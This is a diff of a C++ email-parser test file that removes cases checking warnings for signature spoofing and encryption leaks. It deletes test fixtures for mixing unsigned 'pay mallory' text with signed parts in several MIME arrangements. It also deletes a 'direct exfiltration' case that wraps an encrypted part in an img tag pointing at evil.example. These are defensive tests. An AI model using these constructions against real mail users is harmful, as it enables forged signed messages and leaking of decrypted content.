@@ -27,17 +27,6 @@ std::vector<Case> errant_cases() {
          {},
          {Warning::errant_signature, Warning::mailing_list_footer},
          "____\nthe list"},
-        {"unsigned text before a signed part",
-         [](const MailMaker& m) {
-             return m.header() +
-                    MailMaker::multipart("mixed", {MailMaker::text_part("pay mallory\n"),
-                                                   m.signed_part(MailMaker::text_part("hello\n"), alice)});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature},
-         "pay mallory"},
         {"a third part in multipart/signed",
          [](const MailMaker& m) {
              std::string part = m.signed_part(MailMaker::text_part("hello\n"), alice);
@@ -65,18 +54,6 @@ std::vector<Case> errant_cases() {
          {},
          {Warning::errant_encryption},
          "open words"},
-        {"direct exfiltration",
-         [](const MailMaker& m) {
-             return m.header() +
-                    MailMaker::multipart(
-                        "mixed", {MailMaker::html_part("<img src=\"http://evil.example/"),
-                                  MailMaker::encrypted_part(m.encrypt(MailMaker::text_part("secret\n"))),
-                                  MailMaker::html_part("\">")});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_encryption}},
         {"mangled in transit",
          [](const MailMaker& m) {
              return m.header() +
@@ -121,63 +98,6 @@ std::vector<Case> errant_cases() {
          {Warning::errant_encryption},
          std::nullopt,
          "secret"},
-        {"a signed part below a thousand blank lines",
-         [](const MailMaker& m) {
-             return m.header() + MailMaker::multipart(
-                                     "mixed", {MailMaker::text_part("pay mallory" + std::string(1000, '\n')),
-                                               m.signed_part(MailMaker::text_part("hello\n"), alice)});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature},
-         "pay mallory"},
-        {"a signed message as an attachment",
-         [](const MailMaker& m) {
-             return m.header("x", MailMaker::mallory) +
-                    MailMaker::multipart(
-                        "mixed", {MailMaker::text_part("pay mallory\n"),
-                                  "Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" +
-                                      m.header() + m.signed_part(MailMaker::text_part("hello\n"), alice)});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature},
-         "pay mallory"},
-        {"a signed message is the whole body",
-         [](const MailMaker& m) {
-             return m.header("x", MailMaker::mallory) + "Content-Type: message/rfc822\n\n" + m.header() +
-                    m.signed_part(MailMaker::text_part("hello\n"), alice);
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature}},
-        {"a signed part under multipart/related, shown by cid",
-         [](const MailMaker& m) {
-             return m.header() +
-                    MailMaker::multipart(
-                        "related",
-                        {MailMaker::html_part("<p>pay mallory</p><iframe src=\"cid:1\"></iframe>\n"),
-                         m.signed_part(MailMaker::text_part("hello\n"), alice)});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature},
-         "pay mallory"},
-        {"a signed form beside an unsigned one",
-         [](const MailMaker& m) {
-             return m.header() + MailMaker::multipart("alternative",
-                                                      {m.signed_part(MailMaker::text_part("hello\n"), alice),
-                                                       MailMaker::html_part("<p>pay mallory</p>\n")});
-         },
-         P::unprotected,
-         E::none,
-         {},
-         {Warning::errant_signature},
-         "pay mallory"},
     };
 }
 
